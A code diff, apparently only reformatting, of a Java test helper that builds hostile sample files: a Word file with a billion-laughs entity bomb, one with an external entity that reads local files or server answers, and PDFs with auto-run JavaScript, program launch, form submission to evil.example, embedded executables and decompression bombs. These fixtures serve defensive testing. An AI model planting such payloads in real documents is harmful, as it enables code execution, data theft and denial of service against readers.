@@ -77,16 +77,20 @@ public final class BadFiles {
 
     /** A Word file whose text is the billion laughs. */
     public static byte[] wordThatLaughs() {
-        return replaced("word/document.xml", LAUGHS
-                + "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">"
-                + "<w:body><w:p><w:r><w:t>&l9;</w:t></w:r></w:p></w:body></w:document>");
+        return replaced(
+                "word/document.xml",
+                LAUGHS
+                        + "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">"
+                        + "<w:body><w:p><w:r><w:t>&l9;</w:t></w:r></w:p></w:body></w:document>");
     }
 
     /** A Word file that wants a file of its reader, or an answer of a server, as text. */
     public static byte[] wordWithEntity(String address) {
-        return replaced("word/document.xml", "<!DOCTYPE d [<!ENTITY e SYSTEM \"" + address + "\">]>"
-                + "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">"
-                + "<w:body><w:p><w:r><w:t>got &e;</w:t></w:r></w:p></w:body></w:document>");
+        return replaced(
+                "word/document.xml",
+                "<!DOCTYPE d [<!ENTITY e SYSTEM \"" + address + "\">]>"
+                        + "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">"
+                        + "<w:body><w:p><w:r><w:t>got &e;</w:t></w:r></w:p></w:body></w:document>");
     }
 
     /** The same in UTF-16, which a search for ASCII letters overlooks. */
@@ -155,8 +159,7 @@ public final class BadFiles {
         int start = out.size();
         for (int i = 0; i < files; i++) {
             String name = i == 0 ? "[Content_Types].xml" : i == 1 ? "word/document.xml" : "word/media/" + i;
-            out.writeBytes(
-                    listHeader(name.getBytes(StandardCharsets.UTF_8), zeros.length, 10 * MEGABYTE, crc, 0));
+            out.writeBytes(listHeader(name.getBytes(StandardCharsets.UTF_8), zeros.length, 10 * MEGABYTE, crc, 0));
         }
         out.writeBytes(endOfList(files, out.size() - start, start));
         return out.toByteArray();
@@ -174,42 +177,78 @@ public final class BadFiles {
         Map<String, byte[]> files = new LinkedHashMap<>();
         files.put("JavaScript at opening", pdf("/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>", "", ""));
         files.put("JavaScript with an escaped name", pdf("/Open#41ction << /S /Java#53cript /JS (x) >>", "", ""));
-        files.put("JavaScript by name", pdf("/Names << /JavaScript << /Names [(a) 5 0 R] >> >>", "",
-                "5 0 obj << /S /JavaScript /JS (app.alert\\(1\\)) >> endobj\n"));
-        files.put("JavaScript in a stream", pdf("/OpenAction << /S /JavaScript /JS 5 0 R >>", "",
-                "5 0 obj << /Length 12 >> stream\napp.alert(1)\nendstream endobj\n"));
+        files.put(
+                "JavaScript by name",
+                pdf(
+                        "/Names << /JavaScript << /Names [(a) 5 0 R] >> >>",
+                        "",
+                        "5 0 obj << /S /JavaScript /JS (app.alert\\(1\\)) >> endobj\n"));
+        files.put(
+                "JavaScript in a stream",
+                pdf(
+                        "/OpenAction << /S /JavaScript /JS 5 0 R >>",
+                        "",
+                        "5 0 obj << /Length 12 >> stream\napp.alert(1)\nendstream endobj\n"));
         files.put("a program at opening", pdf("/OpenAction << /S /Launch /F (calc.exe) >>", "", ""));
         files.put("an address at opening", pdf("/OpenAction << /S /URI /URI (http://evil.example/) >>", "", ""));
         files.put("another file at opening", pdf("/OpenAction << /S /GoToR /F (x.pdf) /D [0 /Fit] >>", "", ""));
         files.put("sends a form at opening", pdf("/OpenAction << /S /SubmitForm /F (http://evil.example/) >>", "", ""));
-        files.put("a chain of actions", pdf("/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /JavaScript /JS (x)"
-                + " >> >>", "", ""));
+        files.put(
+                "a chain of actions",
+                pdf("/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /JavaScript /JS (x)" + " >> >>", "", ""));
         files.put("an action of the document", pdf("/AA << /WC << /S /JavaScript /JS (x) >> >>", "", ""));
         files.put("an action of a page", pdf("", "/AA << /O << /S /JavaScript /JS (x) >> >>", ""));
-        files.put("a link that starts a program", pdf("", "/Annots [5 0 R]",
-                "5 0 obj << /Type /Annot /Subtype /Link /Rect [0 0 600 800] /A << /S /Launch /F (calc.exe) >> >> endobj\n"));
-        files.put("a link that runs a script", pdf("", "/Annots [5 0 R]",
-                "5 0 obj << /Type /Annot /Subtype /Link /Rect [0 0 600 800] /A << /S /JavaScript /JS (x) >> >> endobj\n"));
-        files.put("a link with a script address", pdf("", "/Annots [5 0 R]",
-                "5 0 obj << /Type /Annot /Subtype /Link /Rect [0 0 600 800] /A << /S /URI /URI (javascript:alert\\(1\\)) >>"
-                        + " >> endobj\n"));
-        files.put("an embedded file", pdf("/Names << /EmbeddedFiles << /Names [(a) 5 0 R] >> >>", "",
-                "5 0 obj << /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >> endobj\n"
-                        + "6 0 obj << /Type /EmbeddedFile /Length 2 >> stream\nMZ\nendstream endobj\n"));
-        files.put("a file as a note", pdf("", "/Annots [5 0 R]",
-                "5 0 obj << /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /Type /Filespec /F (a.exe)"
-                        + " /EF << /F 6 0 R >> >> >> endobj\n"
-                        + "6 0 obj << /Type /EmbeddedFile /Length 2 >> stream\nMZ\nendstream endobj\n"));
-        files.put("a film", pdf("", "/Annots [5 0 R]",
-                "5 0 obj << /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >> endobj\n"));
-        files.put("an XML form", pdf("/AcroForm << /Fields [] /XFA 5 0 R >>", "",
-                "5 0 obj << /Length " + LAUGHS.length() + " >> stream\n" + LAUGHS + "\nendstream endobj\n"));
+        files.put(
+                "a link that starts a program",
+                pdf(
+                        "",
+                        "/Annots [5 0 R]",
+                        "5 0 obj << /Type /Annot /Subtype /Link /Rect [0 0 600 800] /A << /S /Launch /F (calc.exe) >> >> endobj\n"));
+        files.put(
+                "a link that runs a script",
+                pdf(
+                        "",
+                        "/Annots [5 0 R]",
+                        "5 0 obj << /Type /Annot /Subtype /Link /Rect [0 0 600 800] /A << /S /JavaScript /JS (x) >> >> endobj\n"));
+        files.put(
+                "a link with a script address",
+                pdf(
+                        "",
+                        "/Annots [5 0 R]",
+                        "5 0 obj << /Type /Annot /Subtype /Link /Rect [0 0 600 800] /A << /S /URI /URI (javascript:alert\\(1\\)) >>"
+                                + " >> endobj\n"));
+        files.put(
+                "an embedded file",
+                pdf(
+                        "/Names << /EmbeddedFiles << /Names [(a) 5 0 R] >> >>",
+                        "",
+                        "5 0 obj << /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >> endobj\n"
+                                + "6 0 obj << /Type /EmbeddedFile /Length 2 >> stream\nMZ\nendstream endobj\n"));
+        files.put(
+                "a file as a note",
+                pdf(
+                        "",
+                        "/Annots [5 0 R]",
+                        "5 0 obj << /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /Type /Filespec /F (a.exe)"
+                                + " /EF << /F 6 0 R >> >> >> endobj\n"
+                                + "6 0 obj << /Type /EmbeddedFile /Length 2 >> stream\nMZ\nendstream endobj\n"));
+        files.put(
+                "a film",
+                pdf("", "/Annots [5 0 R]", "5 0 obj << /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >> endobj\n"));
+        files.put(
+                "an XML form",
+                pdf(
+                        "/AcroForm << /Fields [] /XFA 5 0 R >>",
+                        "",
+                        "5 0 obj << /Length " + LAUGHS.length() + " >> stream\n" + LAUGHS + "\nendstream endobj\n"));
         return files;
     }
 
     /** A link to a web page and one within the file, as honest documents have them. */
     public static byte[] pdfWithLinks() {
-        return pdf("/OpenAction [3 0 R /Fit]", "/Annots [5 0 R 6 0 R]",
+        return pdf(
+                "/OpenAction [3 0 R /Fit]",
+                "/Annots [5 0 R 6 0 R]",
                 "5 0 obj << /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://www.nacc.go.th/) >> >>"
                         + " endobj\n"
                         + "6 0 obj << /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoTo /D [3 0 R /Fit] >> >> endobj\n");
@@ -219,8 +258,8 @@ public final class BadFiles {
     public static byte[] deepPdf(int levels) {
         StringBuilder objects = new StringBuilder();
         for (int level = 0; level < levels; level++) {
-            objects.append("%d 0 obj << /Type /Pages /Count 1 /Kids [%d 0 R] >> endobj\n"
-                    .formatted(10 + level, 11 + level));
+            objects.append(
+                    "%d 0 obj << /Type /Pages /Count 1 /Kids [%d 0 R] >> endobj\n".formatted(10 + level, 11 + level));
         }
         objects.append("%d 0 obj << /Type /Page /MediaBox [0 0 595 842] /Parent %d 0 R >> endobj\n"
                 .formatted(10 + levels, 9 + levels));
@@ -269,7 +308,7 @@ public final class BadFiles {
         byte[] packed = deflated(side / 8 * side / MEGABYTE + 1, "\u0000\u0000\u0000\u0000");
         return withStream(
                 "4 0 obj << /Type /XObject /Subtype /Image /Width %d /Height %d /BitsPerComponent 1 /ColorSpace /DeviceGray"
-                        .formatted(side, side)
+                                .formatted(side, side)
                         + " /Filter /FlateDecode /Length " + packed.length + " >> stream\n",
                 packed,
                 "/Resources << /XObject << /I 4 0 R >> >> /Contents 5 0 R");
@@ -278,7 +317,9 @@ public final class BadFiles {
     /** A page whose content went through this filter. */
     public static byte[] pdfWithFilter(String filter, byte[] packed) {
         return withStream(
-                "4 0 obj << /Filter " + filter + " /Length " + packed.length + " >> stream\n", packed, "/Contents 4 0 R");
+                "4 0 obj << /Filter " + filter + " /Length " + packed.length + " >> stream\n",
+                packed,
+                "/Contents 4 0 R");
     }
 
     /** So many megabytes of one letter, packed as PDF packs repetitions: two bytes for each 128. */
